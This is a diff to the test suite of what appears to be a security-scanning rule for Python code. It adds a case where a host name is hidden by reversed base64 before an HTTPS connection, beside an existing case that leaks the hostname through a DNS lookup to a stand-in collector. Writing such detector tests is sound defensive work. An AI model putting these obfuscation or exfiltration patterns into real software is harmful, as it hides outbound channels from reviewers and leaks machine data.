@@ -32,5 +32,11 @@ ruleTest(rule, {
       code: `import socket\nname = socket.gethostname() + ".x.oast-collector.example"\nsocket.gethostbyname(name)\n`,
       findings: [{ line: 3, confidence: 'high', message: /DNS lookup/ }],
     },
+    {
+      name: 'connection to an encoded host through a decoding method',
+      file: 'c.py',
+      code: `from http.client import HTTPSConnection\nfrom base64 import b64decode\nclass A:\n    def decd(self, data):\n        return b64decode(data[::-1]).decode()\n    def go(self):\n        hosts = ['${Buffer.from('c2.example-bad.net').toString('base64').split('').reverse().join('')}']\n        c = HTTPSConnection(self.decd(hosts[0]), timeout=1)\n`,
+      findings: [{ line: 8, confidence: 'high', decoded: 'c2.example-bad.net', message: /hidden by reverse → base64/ }],
+    },
   ],
 });
